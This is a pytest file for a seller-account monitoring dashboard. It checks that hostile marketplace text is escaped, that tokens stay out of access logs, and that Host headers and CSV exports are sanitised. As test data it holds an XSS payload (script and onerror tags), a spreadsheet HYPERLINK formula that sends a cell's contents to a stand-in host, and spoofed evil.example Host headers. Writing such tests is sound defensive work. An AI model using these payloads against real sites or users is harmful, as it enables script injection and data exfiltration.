"""The dashboard and charts under hostile or awkward input: text that came from buyers or marketplaces is escaped,
the access log never shows a token, a day between gaps is still drawn, a mistyped id gets a close match."""

from __future__ import annotations

import contextlib
import csv
import io
import logging
import threading
import urllib.error
import urllib.request
from datetime import UTC, date, datetime, timedelta

import pytest
from click.testing import CliRunner

from sellerguard.rules.report import AccountStatus, Deadline, MetricStatus, StatusReport

NOW = datetime(2026, 11, 23, 12, 0, tzinfo=UTC)
EVIL = '"><script>alert(1)</script><img src=x onerror=alert(2)>'


@pytest.fixture(scope="module")
def store(tmp_path_factory):
    from sellerguard.store import Store

    store = Store(f"sqlite:///{tmp_path_factory.mktemp('dash-attack') / 'sg.db'}")
    yield store
    store.close()


def hostile_report() -> StatusReport:
    m = MetricStatus(id="amazon.pre_fulfillment_cancel_rate", name=f"PFCR {EVIL}", value=0.03, numerator=3,
                     denominator=100, window_days=7, threshold=0.025, comparator="<", level="critical",
                     reason=f"the marketplace says {EVIL}", source="test")
    d = Deadline(kind="reply", ref=f"thread {EVIL}", due=NOW - timedelta(hours=1), metric=m.id, value_if_missed=0.04)
    return StatusReport(as_of=NOW, accounts=[AccountStatus(marketplace="amazon", account="amz", level="critical",
                                                           display_name=f"Shop {EVIL}", metrics=[m], deadlines=[d])])


def test_text_from_buyers_and_marketplaces_is_escaped(store):
    from sellerguard.web.app import create_app

    page = create_app(store, hostile_report).test_client().get("/").get_data(as_text=True)
    assert "<script" not in page and "<img" not in page and 'onerror=' not in page.replace("onerror=alert(2)&gt;", "")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page  # shown, as text
    assert page.count("&lt;script&gt;") == 5  # display name twice, the metric's name and reason, the deadline's ref


def test_the_access_log_never_shows_a_token(store, caplog):
    from werkzeug.serving import make_server

    from sellerguard.web.app import RequestHandler, create_app

    server = make_server("127.0.0.1", 0, create_app(store, hostile_report, token="s3cret-token"),
                         request_handler=RequestHandler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_port}/healthz"
    caplog.set_level(logging.INFO, logger="werkzeug")
    try:
        for query in ("?token=s3cret-token", "?a=1&TOKEN=s3cret-toke", "?token=s3cret-token&b=2"):
            with contextlib.suppress(urllib.error.HTTPError):  # the 401 of the near-miss
                urllib.request.urlopen(base + query, timeout=10).close()
    finally:
        server.shutdown()
        server.server_close()
    logged = "\n".join(r.getMessage() for r in caplog.records if r.name == "werkzeug")
    assert "/healthz?token=*** HTTP" in logged and "&b=2" in logged and "TOKEN=***" in logged
    assert "s3cret" not in logged


def test_a_day_between_gaps_is_drawn():
    from sellerguard.history.chart import ChartData, isolated, render

    days = [date(2026, 11, 1) + timedelta(days=i) for i in range(20)]
    values = [None] * 19 + [2.0]  # a count the marketplace reported only today: one figure after 19 empty days
    svg = render(ChartData("amz", "amazon.listing_policy_violations", days=days, values=values,
                           reported=[None] * 20, thresholds=[0.0] * 20, warns=[None] * 20),
                 "svg", size=(4.6, 1.9), gid="c1-", title=False, legend=False).decode()
    value_group = svg.split('id="c1-value"')[1].split('id="c1-threshold"')[0]
    assert "<use" in value_group  # a marker: a one-point line draws nothing
    assert isolated([1.0, None, 2.0, 3.0, None, 4.0]) == [0, 5]


def test_chart_offers_the_close_id(store):
    from sellerguard.cli import cli
    from sellerguard.history.record import record

    m = MetricStatus(id="amazon.pre_fulfillment_cancel_rate", name="PFCR", value=0.01, numerator=1, denominator=100,
                     window_days=7,
                     threshold=0.025, comparator="<", level="ok", source="test")
    record(store, StatusReport(as_of=datetime.now(UTC), accounts=[
        AccountStatus(marketplace="amazon", account="amazon-us", level="ok", metrics=[m], deadlines=[])]))

    def chart(account: str, metric: str) -> str:
        result = CliRunner().invoke(cli, ["--db", str(store.engine.url), "chart", account, metric])
        assert result.exit_code == 3, result.output
        return result.output

    assert "did you mean account amazon-us?" in chart("amazon-uss", m.id)
    assert "did you mean amazon.pre_fulfillment_cancel_rate?" in chart("amazon-us", "amazon.pre_fulfilment_cancel_rate")
    assert "did you mean" not in chart("zzz", "q")


def test_csv_keeps_formulas_as_text_and_numbers_as_numbers():
    from sellerguard.status import render_csv_deadlines, render_csv_metrics

    report = hostile_report()
    report.accounts[0].deadlines[0].ref = '=HYPERLINK("http://x.example/?"&A1,"open")'
    report.accounts[0].metrics[0].headroom = -53
    (deadline,) = csv.DictReader(io.StringIO(render_csv_deadlines(report)))
    assert deadline["ref"] == "'" + report.accounts[0].deadlines[0].ref
    (metric,) = csv.DictReader(io.StringIO(render_csv_metrics(report)))
    assert metric["headroom"] == "-53" and metric["comparator"] == "<"


def test_without_a_token_only_loopback_names_are_answered(store):
    """DNS rebinding: a page on evil.example re-pointed at 127.0.0.1 sends ``Host: evil.example``."""
    from sellerguard.web.app import create_app

    client = create_app(store, hostile_report).test_client()
    for host in ("localhost:8765", "127.0.0.1:8765", "[::1]:8765", "127.0.0.1"):
        assert client.get("/healthz", headers={"Host": host}).status_code == 200, host
    for host in ("evil.example:8765", "evil.example", "localhost.evil.example", "[::1"):
        assert client.get("/healthz", headers={"Host": host}).status_code in (400, 403), host
    tokened = create_app(store, hostile_report, token="s3cret-token").test_client()  # a proxy's name is fine then
    ok = tokened.get("/healthz", headers={"Host": "dash.example", "Authorization": "Bearer s3cret-token"})
    assert ok.status_code == 200


def test_the_demo_hint_names_the_program_as_it_can_be_typed(tmp_path, monkeypatch):
    """README: `.venv/bin/sellerguard demo` with the venv not activated: a bare `sellerguard` is not found."""
    from sellerguard.demo import dashboard_hint, invoked_as

    script = tmp_path / ".venv" / "bin" / "sellerguard"
    script.parent.mkdir(parents=True)
    script.write_text("#!/bin/sh\n")
    script.chmod(0o755)
    monkeypatch.setenv("PATH", "/nonexistent")
    assert invoked_as(str(script)) == str(script)
    assert dashboard_hint("sqlite:///x.db", kept=True, program=invoked_as(str(script))).count(str(script)) == 2
    monkeypatch.setenv("PATH", str(script.parent))
    assert invoked_as(str(script)) == "sellerguard"
    assert invoked_as("sellerguard") == "sellerguard" and invoked_as("/usr/lib/python3/pytest") == "sellerguard"


def test_serve_on_a_busy_port_is_one_line_exit_3(store):
    import socket

    from sellerguard.cli import cli

    with socket.create_server(("127.0.0.1", 0)) as taken:
        port = taken.getsockname()[1]
        result = CliRunner().invoke(cli, ["--db", str(store.engine.url), "serve", "--port", str(port)])
    assert result.exit_code == 3, result.output
    assert result.output.strip().splitlines() == [
        f"Error: serve: cannot listen on 127.0.0.1:{port}: Address already in use (another program has it: --port or "
        "[dashboard] port)"]
